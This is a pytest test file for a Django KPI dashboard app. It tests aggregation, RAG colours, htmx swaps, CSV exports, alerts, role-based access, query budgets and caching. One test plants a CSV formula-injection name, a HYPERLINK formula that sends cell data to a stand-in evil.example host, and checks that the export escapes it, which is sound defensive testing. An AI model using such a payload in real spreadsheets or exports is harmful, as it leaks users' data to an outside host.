"""KPI dashboards: the figures, the htmx fragments, the CSV exports, the alerts,
who sees what, and query budgets that do not grow with history."""

import csv
import datetime as dt
import io
import re
import statistics

import pytest
from django.urls import reverse

from performance.cache import bump_rollups_version
from performance.models import DailyKpi, Kpi
from performance.selectors import kpis as sel
from tests.conftest import client_for
from tests.factories import AssociateFactory, TeamFactory

pytestmark = pytest.mark.django_db

END = dt.date(2026, 11, 20)


def rollup(kpi, day, associate=None, team=None, *, value, numerator=None, den=None, events=1):
    """One DailyKpi row as the rollup would write it."""
    team = team or associate.team
    return DailyKpi(
        kpi=kpi,
        day=day,
        scope="associate" if associate else "team",
        site_id=team.site_id,
        team=team,
        associate=associate,
        value=value,
        numerator=value if numerator is None else numerator,
        denominator=den,
        event_count=events,
        contributors=1 if associate else 2,
    )


@pytest.fixture
def usual():
    return {k.key: k for k in Kpi.objects.all()}


def history(team, people, days, kpis, *, base=0.0):
    """Rollups for every person, KPI and day, plus the team rows built from them."""
    rows = []
    for d in range(days):
        day = END - dt.timedelta(days=d)
        for kpi in kpis:
            values = []
            for i, person in enumerate(people):
                value = kpi.target * (0.8 + 0.05 * i) + base + d % 3
                values.append(value)
                rows.append(rollup(kpi, day, person, value=value, events=4, den=4))
            team_row = rollup(kpi, day, team=team, value=sum(values), events=4 * len(people))
            team_row.contributors = len(people)
            team_row.denominator = 4 * len(people)
            rows.append(team_row)
    DailyKpi.objects.bulk_create(rows)


def range_query(start, end):
    return {"from": start.isoformat(), "to": end.isoformat()}


# --- How a period is built from days -----------------------------------------------


@pytest.mark.parametrize(
    ("aggregation", "expected"),
    [
        # two days: (value, numerator, denominator, events, contributors)
        # rows: (10, 10, -, 2, 1) and (30, 30, -, 6, 2)
        (Kpi.Aggregation.COUNT, (10 + 30) / (1 + 2)),  # per associate-day
        (Kpi.Aggregation.SUM, (10 + 30) / (1 + 2)),
        (Kpi.Aggregation.MEAN, (10 + 30) / (2 + 6)),  # numerator / events
        (Kpi.Aggregation.RATIO, (10 + 30) / (20 + 40)),
        (Kpi.Aggregation.MEDIAN, (10 + 30) / 2),  # average of the daily figures
        (Kpi.Aggregation.P90, (10 + 30) / 2),
    ],
)
def test_a_period_combines_days_by_the_kpis_aggregation(aggregation, expected):
    kpi = Kpi(aggregation=aggregation)
    a = sel.Sums(total=10, numerator=10, denominator=20, events=2, heads=1, days=1)
    b = sel.Sums(total=30, numerator=30, denominator=40, events=6, heads=2, days=1)
    assert (a + b).value(kpi) == pytest.approx(expected)
    assert sel.Sums().value(kpi) is None


def test_the_colour_agrees_with_the_figure_shown():
    """Judged on the exact value (issue 13, point 6), shown with the decimal that
    keeps it from reading as on target."""
    tickets = Kpi(direction="higher", green_at=35, amber_at=28, decimals=0)
    assert sel.Figure(tickets, 34.6).display == "34.6"
    assert sel.rag(tickets, 34.6) == "amber"
    assert sel.Figure(tickets, 36.4).display == "36"
    assert sel.rag(tickets, 36.4) == "green"


@pytest.mark.parametrize(
    ("direction", "value", "colour"),
    [
        ("higher", 4.6, "green"),
        ("higher", 4.5, "green"),
        ("higher", 4.2, "amber"),
        ("higher", 3.9, "red"),
        ("lower", 50, "green"),
        ("lower", 90, "amber"),
        ("lower", 121, "red"),
    ],
)
def test_rag_follows_the_better_direction(direction, value, colour):
    if direction == "higher":
        kpi = Kpi(direction=direction, green_at=4.5, amber_at=4.0, decimals=2)
    else:
        kpi = Kpi(direction=direction, green_at=60, amber_at=120, decimals=0)
    assert sel.rag(kpi, value) == colour


# --- The lead's team dashboard ----------------------------------------------------------


def test_team_dashboard_shows_each_kpi_against_target_from_the_rollups(team, lead, usual):
    people = [AssociateFactory(team=team) for _ in range(3)]
    csat, tickets = usual["csat"], usual["tickets_solved"]
    day = END
    DailyKpi.objects.bulk_create(
        [
            rollup(csat, day, people[0], value=4.0, numerator=8.0, events=2),
            rollup(csat, day, people[1], value=5.0, numerator=30.0, events=6),
            rollup(tickets, day, people[0], value=30),
            rollup(tickets, day, people[1], value=42),
        ]
    )
    team_csat = rollup(csat, day, team=team, value=38 / 8, numerator=38.0, events=8)
    team_tickets = rollup(tickets, day, team=team, value=72)
    DailyKpi.objects.bulk_create([team_csat, team_tickets])
    response = client_for(lead).get(
        reverse("performance:team-dashboard", args=[team.pk]), range_query(day, day)
    )
    assert response.status_code == 200
    summary = {f.kpi.key: f for f in response.context["summary"]}
    assert summary["csat"].value == pytest.approx(38 / 8)
    assert summary["csat"].rag == "green"
    assert summary["tickets_solved"].value == pytest.approx(72 / 2)  # per associate-day
    rows = {r.name: {f.kpi.key: f.value for f in r.figures} for r in response.context["rows"]}
    assert rows[people[0].name]["tickets_solved"] == 30
    assert rows[people[2].name]["tickets_solved"] is None  # on the team, no figures yet
    assert sorted(c["id"] for c in response.context["charts"]) == sorted(
        f"chart-{k}" for k in usual
    )


def test_the_range_changes_in_place_with_htmx(team, lead, usual):
    people = [AssociateFactory(team=team) for _ in range(2)]
    history(team, people, 10, usual.values())
    url = reverse("performance:team-dashboard", args=[team.pk])
    response = client_for(lead).get(
        url,
        range_query(END - dt.timedelta(days=6), END),
        HTTP_HX_REQUEST="true",
        HTTP_HX_TARGET="dashboard",
    )
    body = response.content.decode()
    assert response.status_code == 200
    assert "<html" not in body
    assert body.lstrip().startswith('<div id="dashboard">')
    chart = response.context["charts"][0]
    assert len(chart["labels"]) == 7
    # The page's links are swapped too, so they follow the range chosen in place.
    span = response.context["span"]
    overview = reverse("performance:kpi-overview")
    assert f'href="{overview}?from={span.start:%Y-%m-%d}&amp;to={span.end:%Y-%m-%d}"' in body


def test_the_associate_table_sorts_by_a_kpi_with_htmx(team, lead, usual):
    people = [AssociateFactory(team=team) for _ in range(4)]
    history(team, people, 3, usual.values())
    url = reverse("performance:team-dashboard", args=[team.pk])
    query = range_query(END - dt.timedelta(days=2), END) | {"sort": "csat", "dir": "desc"}
    response = client_for(lead).get(url, query, HTTP_HX_REQUEST="true", HTTP_HX_TARGET="dashboard")
    body = response.content.decode()
    assert body.lstrip().startswith('<div id="dashboard">')
    assert body.index(people[3].name) < body.index(people[0].name)
    # The whole dashboard is swapped, so a later range change or export keeps the sort.
    assert '<input type="hidden" name="sort" value="csat">' in body
    assert '<input type="hidden" name="dir" value="desc">' in body
    presets = re.findall(r'href="\?([^"]*)"[^>]*>(?:7|30|90) days</a>', body)
    exports = re.findall(r'href="\?([^"]*)export=csv"', body)
    assert len(presets) == 3
    assert len(exports) == 1
    assert all("sort=csat&amp;dir=desc" in link for link in presets + exports)
    ascending = client_for(lead).get(url, query | {"dir": "asc"})
    names = [r.name for r in ascending.context["rows"]]
    assert names.index(people[0].name) < names.index(people[3].name)


def test_a_bad_range_is_explained_and_the_export_refuses_it(team, lead, usual):
    url = reverse("performance:team-dashboard", args=[team.pk])
    query = range_query(END, END - dt.timedelta(days=3))
    response = client_for(lead).get(url, query)
    assert response.status_code == 200
    assert "The start of the range is after its end." in response.content.decode()
    export = client_for(lead).get(url, query | {"export": "csv"})
    assert export.status_code == 400
    assert "after its end" in export.content.decode()
    too_long = client_for(lead).get(url, range_query(END - dt.timedelta(days=400), END))
    assert "at most 366 days" in too_long.content.decode()
    nonsense = client_for(lead).get(url, {"from": "someday", "to": "2026-13-01"})
    assert nonsense.status_code == 200
    assert "Enter a valid date." in nonsense.content.decode()


@pytest.mark.parametrize(
    ("start", "end", "message"),
    [
        ("0001-01-01", "0001-01-05", "Choose days from 1 Jan 2000 on."),
        ("1999-12-31", "2000-01-05", "Choose days from 1 Jan 2000 on."),
        ("TODAY", "TOMORROW", "at the latest"),
    ],
)
def test_days_outside_any_history_are_refused_not_an_error(
    team, lead, manager, usual, start, end, message
):
    today = team.site.local_today()
    days = {"TODAY": today.isoformat(), "TOMORROW": (today + dt.timedelta(days=1)).isoformat()}
    query = {"from": days.get(start, start), "to": days.get(end, end)}
    for user, url in (
        (lead, reverse("performance:team-dashboard", args=[team.pk])),
        (manager, reverse("performance:kpi-overview")),
    ):
        page = client_for(user).get(url, query)
        assert page.status_code == 200
        assert message in page.content.decode()
        # The page shows the default range, and its export link asks for that range.
        shown = page.context["span"]
        assert shown.end == today - dt.timedelta(days=1)
        export = re.findall(r'href="\?([^"]*)export=csv"', page.content.decode())[0]
        assert f"from={shown.start.isoformat()}&amp;to={shown.end.isoformat()}" in export
        assert client_for(user).get(url, query | {"export": "csv"}).status_code == 400


def test_a_bad_range_keeps_the_team_chosen(manager, team, other_team, usual):
    mine = TeamFactory.create(site=team.site, manager=manager, name="Billing")
    history(mine, [AssociateFactory(team=mine)], 5, usual.values())
    url = reverse("performance:kpi-overview")
    page = client_for(manager).get(
        url, {"team": mine.pk} | range_query(END, END - dt.timedelta(days=3))
    )
    assert "after its end" in page.content.decode()
    assert page.context["chosen"] == mine
    assert [row.name for row in page.context["rows"]] == ["Billing"]


def test_links_carry_only_the_dashboards_own_parameters(settings, team, lead, usual):
    """A cached fragment is shared by everyone on the page: a stray parameter in one
    viewer's address must not end up in the links everyone gets."""
    settings.KPI_DASHBOARD_CACHE_SECONDS = 60
    url = reverse("performance:team-dashboard", args=[team.pk])
    body = client_for(lead).get(url, {"sort": "csat", "utm_source": "mail"}).content.decode()
    assert "utm_source" not in body
    assert "sort=csat" in body


def test_someone_who_left_before_the_range_is_not_listed(team, lead, associate, teammate, usual):
    csat = usual["csat"]
    before = END - dt.timedelta(days=40)  # in the previous 30 days, not the range shown
    DailyKpi.objects.bulk_create(
        [rollup(csat, before, teammate, value=4.8), rollup(csat, END, associate, value=4.7)]
    )
    teammate.left_on = before + dt.timedelta(days=1)
    teammate.save()
    url = reverse("performance:team-dashboard", args=[team.pk])
    page = client_for(lead).get(url, range_query(END - dt.timedelta(days=29), END))
    assert [row.name for row in page.context["rows"]] == [associate.name]


def test_the_csv_export_holds_exactly_what_the_page_shows(team, lead, usual):
    people = [AssociateFactory(team=team) for _ in range(3)]
    history(team, people, 5, usual.values())
    url = reverse("performance:team-dashboard", args=[team.pk])
    query = range_query(END - dt.timedelta(days=4), END)
    page = client_for(lead).get(url, query)
    export = client_for(lead).get(url, query | {"export": "csv"})
    assert export["Content-Type"].startswith("text/csv")
    assert "attachment" in export["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(export.content.decode())))
    period = [r for r in rows if r["day"] == "period"]
    assert {(r["row"], r["name"], r["kpi"]) for r in period} == {
        ("team", team.name, k) for k in usual
    } | {("associate", p.name, k) for p in people for k in usual}
    shown = {f.kpi.key: f for f in page.context["summary"]}
    for r in period:
        if r["row"] == "team":
            assert float(r["value"]) == pytest.approx(shown[r["kpi"]].value, abs=1e-4)
            assert r["status"] == shown[r["kpi"]].rag
    daily = [r for r in rows if r["day"] != "period"]
    assert len(daily) == 5 * len(usual)  # the trend chart, one line per KPI


# --- The associate's own dashboard ----------------------------------------------------------


def test_an_associate_sees_their_figures_and_the_team_median_only(team, associate, teammate, usual):
    others = [AssociateFactory(team=team) for _ in range(2)]
    tickets = usual["tickets_solved"]
    values = {associate: 30, teammate: 777, others[0]: 41, others[1]: 52}
    DailyKpi.objects.bulk_create([rollup(tickets, END, p, value=v) for p, v in values.items()])
    url = reverse("performance:associate-dashboard", args=[associate.pk])
    client = client_for(associate.user)
    response = client.get(url, range_query(END, END))
    mine, median = response.context["figures"][0]
    assert mine.kpi == tickets
    assert mine.value == 30
    assert median.value == statistics.median(values.values())
    for body in (
        response.content.decode(),
        client.get(url, range_query(END, END) | {"export": "csv"}).content.decode(),
    ):
        assert "777" not in body
        assert teammate.name not in body
        assert others[0].name not in body


def test_no_team_median_when_it_would_give_one_person_away(team, associate, teammate, usual):
    tickets = usual["tickets_solved"]
    DailyKpi.objects.bulk_create(
        [rollup(tickets, END, associate, value=30), rollup(tickets, END, teammate, value=50)]
    )
    response = client_for(associate.user).get(
        reverse("performance:associate-dashboard", args=[associate.pk]), range_query(END, END)
    )
    _mine, median = response.context["figures"][0]
    assert median.value is None


def test_an_associate_is_sent_from_the_overview_to_their_own_dashboard(associate):
    response = client_for(associate.user).get(reverse("performance:kpi-overview"))
    assert response.status_code == 302
    assert response["Location"] == reverse("performance:associate-dashboard", args=[associate.pk])


@pytest.mark.parametrize(
    "url_of",
    [
        lambda a, t: reverse("performance:associate-dashboard", args=[t.pk]),
        lambda a, t: reverse("performance:team-dashboard", args=[a.team_id]),
        lambda a, t: reverse("performance:associate-dashboard", args=[t.pk]) + "?export=csv",
        lambda a, t: reverse("performance:team-dashboard", args=[a.team_id]) + "?export=csv",
        lambda a, t: reverse("performance:kpi-overview") + f"?team={a.team_id}&export=csv",
    ],
)
def test_associates_cannot_reach_anyone_elses_figures(associate, teammate, url_of):
    response = client_for(associate.user).get(url_of(associate, teammate))
    assert response.status_code in (302, 404)
    if response.status_code == 302:
        assert response["Location"].endswith(f"/kpis/associates/{associate.pk}/")


# --- The manager's cross-team dashboard ---------------------------------------------------


def test_the_manager_sees_their_teams_and_the_movers(manager, other_manager, site, usual):
    teams = [TeamFactory(site=site, manager=manager, name=f"Team {n}") for n in range(3)]
    foreign = TeamFactory(site=site, manager=other_manager, name="Not mine")
    csat = usual["csat"]
    span_days = 7
    rows = []
    for n, team in enumerate([*teams, foreign]):
        for d in range(2 * span_days):
            day = END - dt.timedelta(days=d)
            # Team 0 improves, team 2 declines, team 1 holds steady.
            recent = d < span_days
            value = 4.0 + (0.4 if recent and n == 0 else 0) - (0.4 if recent and n == 2 else 0)
            rows.append(rollup(csat, day, team=team, value=value, numerator=value, events=1))
    DailyKpi.objects.bulk_create(rows)
    response = client_for(manager).get(
        reverse("performance:kpi-overview"), range_query(END - dt.timedelta(days=6), END)
    )
    assert response.status_code == 200
    assert [r.name for r in response.context["rows"]] == ["Team 0", "Team 1", "Team 2"]
    assert "Not mine" not in response.content.decode()
    best = [(row.name, f.kpi.key) for row, f in response.context["best"]]
    worst = [(row.name, f.kpi.key) for row, f in response.context["worst"]]
    assert best == [("Team 0", "csat")]
    assert worst == [("Team 2", "csat")]
    overall = {f.kpi.key: f.value for f in response.context["overall"]}
    assert overall["csat"] == pytest.approx((4.4 + 4.0 + 3.6) / 3)


def test_the_team_filter_only_offers_the_managers_teams(manager, team, other_team):
    url = reverse("performance:kpi-overview")
    mine = client_for(manager).get(url, {"team": team.pk})
    assert [r.name for r in mine.context["rows"]] == [team.name]
    theirs = client_for(manager).get(url, {"team": other_team.pk})
    assert "Select a valid choice" in theirs.content.decode()
    assert other_team.name not in [r.name for r in theirs.context["rows"]]
    export = client_for(manager).get(url, {"team": other_team.pk, "export": "csv"})
    assert export.status_code == 400


# --- Alerts ----------------------------------------------------------------------------------


def _csat_days(associate, values, *, end=END):
    kpi = Kpi.objects.get(key="csat")
    DailyKpi.objects.bulk_create(
        [
            rollup(kpi, end - dt.timedelta(days=n), associate, value=v, numerator=v)
            for n, v in enumerate(values)
        ]
    )


@pytest.mark.parametrize(
    ("latest_first", "run"),
    [
        ([4.1, 3.2, 4.4, 4.8], 3),  # three days out of green, then a green day
        ([4.1, 3.2, 4.8, 4.0], 0),  # only two in a row
        ([4.6, 4.1, 3.2, 4.4], 0),  # the latest day is green again
        ([4.1, 4.1, 4.1, 4.1, 4.1], 5),
    ],
)
def test_an_alert_needs_n_consecutive_days_out_of_green(associate, latest_first, run):
    _csat_days(associate, latest_first)
    found = sel.alerts([associate.team_id], today=END + dt.timedelta(days=1))
    assert [(a.subject_id, a.days) for a in found] == ([(associate.pk, run)] if run else [])


def test_each_alert_names_its_own_subject(team, associate, teammate):
    kpi = Kpi.objects.get(key="csat")
    _csat_days(associate, [4.1, 4.2, 4.0])
    _csat_days(teammate, [4.8, 4.9, 4.7])  # green: no alert
    DailyKpi.objects.bulk_create(
        [rollup(kpi, END - dt.timedelta(days=n), team=team, value=4.0) for n in range(4)]
    )
    found = sel.alerts([team.pk], today=END + dt.timedelta(days=1))
    assert sorted((a.scope, a.subject_id, a.days) for a in found) == [
        ("associate", associate.pk, 3),
        ("team", team.pk, 4),
    ]


def test_a_run_longer_than_the_days_looked_at_says_so(associate, settings):
    settings.KPI_ALERT_DAYS = 3  # looks back 13 days
    _csat_days(associate, [4.1] * 30)
    (long_run,) = sel.alerts([associate.team_id], today=END + dt.timedelta(days=1))
    assert long_run.days_display == f"{long_run.days}+ days"
    DailyKpi.objects.filter(day__lt=END - dt.timedelta(days=4)).delete()
    (short_run,) = sel.alerts([associate.team_id], today=END + dt.timedelta(days=1))
    assert short_run.days_display == "5 days"


def test_days_off_neither_break_nor_extend_a_run_but_stale_runs_are_dropped(associate):
    kpi = Kpi.objects.get(key="csat")
    days = [END, END - dt.timedelta(days=3), END - dt.timedelta(days=4)]  # a weekend between
    DailyKpi.objects.bulk_create([rollup(kpi, d, associate, value=4.1) for d in days])
    assert len(sel.alerts([associate.team_id], today=END + dt.timedelta(days=1))) == 1
    assert sel.alerts([associate.team_id], today=END + dt.timedelta(days=10)) == []


def test_the_lead_sees_alerts_on_the_home_page_and_the_associate_does_not(
    lead, associate, settings
):
    settings.KPI_ALERT_DAYS = 3
    today = dt.date.today()
    _csat_days(associate, [3.9, 3.8, 4.0], end=today - dt.timedelta(days=1))
    body = client_for(lead).get(reverse("teams:home")).content.decode()
    assert "KPI alerts" in body
    assert associate.name in body
    assert "3 days" in body
    mine = client_for(associate.user).get(reverse("teams:home")).content.decode()
    assert "KPI alerts" not in mine


def test_alerts_are_for_the_people_on_the_team_now(lead, team, associate, teammate, settings):
    settings.KPI_ALERT_DAYS = 3
    today = team.site.local_today()
    for person in (associate, teammate):
        _csat_days(person, [3.9, 3.8, 4.0], end=today - dt.timedelta(days=1))
    teammate.left_on = today - dt.timedelta(days=1)
    teammate.save()
    client = client_for(lead)
    home = client.get(reverse("teams:home")).content.decode()
    page = client.get(reverse("performance:team-dashboard", args=[team.pk]))
    alerts = page.context["alerts"]
    assert [(name, a.subject_id) for name, a in alerts] == [(associate.name, associate.pk)]
    assert associate.name in home
    assert teammate.name not in home
    # They still show in the table for the days they were here, marked as gone.
    left = f"(left {teammate.left_on:%-d %b %Y})"
    assert [r.note for r in page.context["rows"] if r.key == teammate.pk] == [left[1:-1]]
    assert left in page.content.decode()


def test_pages_across_teams_take_today_from_the_sites_not_the_server(lead, team, site):
    import time_machine

    from tests.factories import SiteFactory

    ahead = SiteFactory(name="Kiritimati", time_zone="Pacific/Kiritimati", country="KI")
    far = TeamFactory.create(site=ahead, leads=[lead])
    # 11:30 UTC: 26 Nov on Kiritimati (UTC+14), 25 Nov in Dublin.
    with time_machine.travel(dt.datetime(2026, 11, 25, 11, 30, tzinfo=dt.UTC), tick=False):
        assert ahead.local_today() == dt.date(2026, 11, 26)
        assert sel.sites_today([far]) == dt.date(2026, 11, 26)
        assert sel.sites_today([team, far]) == dt.date(2026, 11, 25)
        page = client_for(lead).get(reverse("performance:kpi-overview"))
        assert page.context["span"].end == dt.date(2026, 11, 24)  # yesterday at every site
    with time_machine.travel(dt.datetime(2026, 11, 25, 23, 30, tzinfo=dt.UTC), tick=False):
        page = client_for(lead).get(reverse("performance:kpi-overview"), {"team": far.pk})
        assert page.context["span"].end == dt.date(2026, 11, 24)


# --- Query budgets ----------------------------------------------------------------------------


def _count(client, url, query):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as captured:
        response = client.get(url, query)
    assert response.status_code == 200
    return len(captured)


def test_the_team_dashboard_query_count_does_not_grow_with_history(lead, team, usual):
    url = reverse("performance:team-dashboard", args=[team.pk])
    query = range_query(END - dt.timedelta(days=89), END)
    client = client_for(lead)
    small = [AssociateFactory(team=team) for _ in range(2)]
    history(team, small, 3, list(usual.values())[:2])
    client.get(url, query)  # warm the session and roles
    few = _count(client, url, query)
    DailyKpi.objects.all().delete()
    people = small + [AssociateFactory(team=team) for _ in range(13)]
    history(team, people, 90, usual.values())
    assert DailyKpi.objects.filter(scope="associate").count() == 15 * 90 * 6
    many = _count(client, url, query)
    assert many == few
    # session, user with roster record, roles, team, KPIs, the period sums (team and
    # associates, now and before), the daily team sums, associates, alerts
    assert many == 9


def test_the_manager_dashboard_query_count_does_not_grow_with_teams(manager, site, usual):
    url = reverse("performance:kpi-overview")
    query = range_query(END - dt.timedelta(days=89), END)
    client = client_for(manager)
    first = TeamFactory(site=site, manager=manager)
    history(first, [AssociateFactory(team=first)], 5, usual.values())
    client.get(url, query)
    one = _count(client, url, query)
    for _ in range(19):
        team = TeamFactory(site=site, manager=manager)
        history(team, [AssociateFactory(team=team) for _ in range(2)], 90, usual.values())
    twenty = _count(client, url, query)
    assert twenty == one
    # session, user with roster record, roles, teams, KPIs, period sums, daily sums
    assert twenty == 7


# --- Cache -----------------------------------------------------------------------------------


def test_a_cached_dashboard_is_replaced_as_soon_as_a_rollup_lands(
    settings, lead, team, associate, usual, django_capture_on_commit_callbacks
):
    from django.core.cache import cache

    from performance.services import kpis as services

    settings.KPI_DASHBOARD_CACHE_SECONDS = 60
    cache.clear()
    url = reverse("performance:team-dashboard", args=[team.pk])
    day = team.site.local_today() - dt.timedelta(days=1)
    event = {
        "associate": associate.user.username,
        "kpi": "tickets_solved",
        "occurred_at": f"{day.isoformat()}T12:00:00+00:00",
        "value": "1",
    }

    def dashboard(response):
        body = response.content.decode()
        return body[body.index('<div id="dashboard">') :]

    client = client_for(lead)
    client.get(url)
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as cold:
        first = client.get(url)
    assert "kpi-card" in first.content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        services.ingest_events([event | {"external_id": "a"}], source="t")  # rolls up on commit
    with CaptureQueriesContext(connection) as after_rollup:
        second = client.get(url)
    assert dashboard(second) != dashboard(first), "a rollup must make the dashboard render afresh"
    assert "No data" in first.content.decode()
    assert second.content.decode().count("No data") < first.content.decode().count("No data")
    with CaptureQueriesContext(connection) as warm:
        third = client.get(url)
    assert dashboard(third) == dashboard(second)
    assert len(warm) < len(after_rollup)
    assert len(warm) <= len(cold)


def test_an_edit_to_what_a_cached_dashboard_shows_replaces_it_at_once(
    settings, lead, team, associate, usual, django_capture_on_commit_callbacks
):
    from django.core.cache import cache
    from django.db import transaction

    settings.KPI_DASHBOARD_CACHE_SECONDS = 60
    cache.clear()
    url = reverse("performance:team-dashboard", args=[team.pk])
    history(team, [associate], 30, usual.values())
    client = client_for(lead)
    client.get(url)
    csat = usual["csat"]
    edits = [  # (record, field, new value, what the page then shows)
        (csat, "name", "Customer happiness", "Customer happiness"),
        (csat, "target", 4.87, "target 4.87"),
        (associate.user, "first_name", "Zebedee", "Zebedee"),
        (team, "name", "Renamed Support", "Renamed Support"),
    ]
    for record, name, value, shown in edits:
        assert shown not in client.get(url).content.decode()
        setattr(record, name, value)
        # Its own transaction, as a real edit (the test's holds the fixtures').
        with django_capture_on_commit_callbacks(execute=True), transaction.atomic():
            record.save()
        assert shown in client.get(url).content.decode(), shown
    # Logging in stamps last_login, which no dashboard shows: the cache stays.
    version = cache.get("kpi-rollups-version")
    client_for(lead)
    assert cache.get("kpi-rollups-version") == version


def test_many_edits_in_one_transaction_bump_the_version_once(
    team, associate, teammate, django_capture_on_commit_callbacks
):
    from django.db import transaction

    with django_capture_on_commit_callbacks() as callbacks, transaction.atomic():
        for person in (associate, teammate):
            person.user.first_name = "Renamed"
            person.user.save()
        team.name = "Renamed team"
        team.save()
    assert callbacks == [bump_rollups_version]


@pytest.mark.django_db(transaction=True)
def test_a_cache_error_after_an_edit_is_logged_not_raised(team, monkeypatch, caplog):
    from django.core.cache import cache

    def broken(*args, **kwargs):
        raise ConnectionError("cache down")

    monkeypatch.setattr(cache, "incr", broken)
    monkeypatch.setattr(cache, "set", broken)
    team.name = "Saved anyway"
    team.save()  # committed at once; then the bump fails
    team.refresh_from_db()
    assert team.name == "Saved anyway"
    assert "cache down" in caplog.text


@pytest.mark.parametrize("cache_seconds", [0, 60])
def test_an_unknown_htmx_target_gets_the_whole_page_not_an_error(
    settings, associate, manager, cache_seconds
):
    settings.KPI_DASHBOARD_CACHE_SECONDS = cache_seconds
    for user, url in (
        (associate.user, reverse("performance:associate-dashboard", args=[associate.pk])),
        (manager, reverse("performance:kpi-overview")),
    ):
        response = client_for(user).get(
            url, HTTP_HX_REQUEST="true", HTTP_HX_TARGET="associate-table"
        )
        assert response.status_code == 200
        assert "<html" in response.content.decode()
        assert "HX-Target" in response["Vary"]


def test_the_cache_never_hands_one_viewer_anothers_page(
    settings, associate, lead, manager, other_manager, team, other_team
):
    from django.core.cache import cache

    settings.KPI_DASHBOARD_CACHE_SECONDS = 60
    cache.clear()
    mine = reverse("performance:associate-dashboard", args=[associate.pk])
    assert "My KPIs" not in client_for(lead).get(mine).content.decode()
    assert "My KPIs" in client_for(associate.user).get(mine).content.decode()
    overview = reverse("performance:kpi-overview")
    assert team.name in client_for(manager).get(overview).content.decode()
    theirs = client_for(other_manager).get(overview).content.decode()
    assert other_team.name in theirs
    assert f">{team.name}<" not in theirs


# --- Someone who moved to another team ---------------------------------------------


@pytest.fixture
def moved(team, other_team, associate, teammate, usual):
    """`associate` had figures on `team` for five days, then moved to `other_team`."""
    history(team, [associate, teammate], 5, [usual["csat"]])
    associate.team = other_team
    associate.save()
    return associate


def test_the_former_lead_keeps_the_teams_figures_but_not_the_movers_row(
    lead, team, moved, teammate
):
    url = reverse("performance:team-dashboard", args=[team.pk])
    query = range_query(END - dt.timedelta(days=4), END)
    page = client_for(lead).get(url, query)
    assert [row.name for row in page.context["rows"]] == [teammate.name]
    assert moved.name not in page.content.decode()
    assert {f.kpi.key for f in page.context["summary"] if f.value is not None} == {"csat"}
    export = client_for(lead).get(url, query | {"export": "csv"}).content.decode()
    names = {r["name"] for r in csv.DictReader(io.StringIO(export))}
    assert names == {team.name, teammate.name}
    drill = reverse("performance:associate-dashboard", args=[moved.pk])
    assert client_for(lead).get(drill, query).status_code == 404
    assert client_for(lead).get(drill, query | {"export": "csv"}).status_code == 404


def test_the_new_lead_reads_the_movers_own_history(other_lead, moved):
    url = reverse("performance:associate-dashboard", args=[moved.pk])
    page = client_for(other_lead).get(url, range_query(END - dt.timedelta(days=4), END))
    assert page.status_code == 200
    csat = next(mine for mine, _ in page.context["figures"] if mine.kpi.key == "csat")
    assert csat.value is not None  # the days on the former team come along


def test_a_name_that_reads_as_a_formula_comes_out_as_text_in_the_team_export(team, lead, usual):
    """Issue 12, point 16: the team KPI export goes through teams.text.write_csv."""
    evil = AssociateFactory(team=team)
    evil.user.first_name, evil.user.last_name = '=HYPERLINK("http://evil.example/?x="&A1', "x"
    evil.user.save()
    history(team, [evil], 2, usual.values())
    url = reverse("performance:team-dashboard", args=[team.pk])
    query = range_query(END - dt.timedelta(days=1), END)
    export = client_for(lead).get(url, query | {"export": "csv"})
    rows = list(csv.DictReader(io.StringIO(export.content.decode())))
    names = {r["name"] for r in rows if r["row"] == "associate"}
    assert names == {"'" + evil.name}


# --- Colours judged on the exact figure; percentiles that do not combine (issue 13) --


@pytest.mark.parametrize(
    ("key", "value", "colour", "shown"),
    [
        ("schedule_adherence", 0.9469, "amber", "94.7%"),  # not "95%", which reads green
        ("schedule_adherence", 0.95, "green", "95%"),
        ("schedule_adherence", 0.9512, "green", "95%"),
        ("tickets_solved", 34.71, "amber", "34.7"),  # not "35"
        ("tickets_solved", 35.0, "green", "35"),
        ("first_response_time", 60.4, "amber", "60.4"),  # lower is better: not "60"
        ("first_response_time", 59.6, "green", "60"),
    ],
)
def test_the_colour_is_judged_on_the_exact_value_and_the_figure_agrees(
    usual, key, value, colour, shown
):
    from performance.selectors import kpis as sel

    kpi = usual[key]
    assert sel.rag(kpi, value) == colour
    assert sel.fmt(kpi, value) == shown
    read = float(shown.removesuffix("%")) / (100 if shown.endswith("%") else 1)
    assert sel.rag(kpi, read) == colour  # what one reads gives the same colour


def test_the_overview_does_not_average_the_teams_p90s(cast, admin, team, other_team, usual):
    frt = usual["first_response_time"]
    rows = []
    for t, p90 in ((team, 52.0), (other_team, 130.0)):
        person = AssociateFactory(team=t)
        rows += [
            rollup(frt, END, person, value=p90),
            rollup(frt, END, team=t, value=p90),
        ]
    DailyKpi.objects.bulk_create(rows)
    url = reverse("performance:kpi-overview")
    page = client_for(admin).get(url, range_query(END, END))
    [overall] = [f for f in page.context["overall"] if f.kpi == frt]
    assert overall.value is None
    assert overall.rag is None
    assert "p90s of several teams do not average" in page.content.decode()
    by_team = {r.name: r.figure(frt.pk).value for r in page.context["rows"]}
    assert by_team == {team.name: 52.0, other_team.name: 130.0}
    chosen = client_for(admin).get(url, range_query(END, END) | {"team": team.pk})
    [alone] = [f for f in chosen.context["overall"] if f.kpi == frt]
    assert alone.value == 52.0


def test_a_fraction_kpi_s_target_and_unit_read_as_a_percentage(team, lead, usual):
    """Adherence reads "91%" against "target 95%", never "91% ratio" or "0.95"."""
    from django.template import Context, Template

    adherence = usual["schedule_adherence"]
    rendered = Template(
        "{% load kpi_tags %}[{{ kpi|kpi_target }}][{{ kpi|kpi_unit }}][{{ other|kpi_unit }}]"
    ).render(Context({"kpi": adherence, "other": usual["tickets_solved"]}))
    assert rendered == f"[95%][][{usual['tickets_solved'].unit}]"
    page = client_for(lead).get(reverse("performance:team-dashboard", args=[team.pk]))
    text = page.content.decode()
    assert "target 95%" in text
    assert "target 0.95" not in text
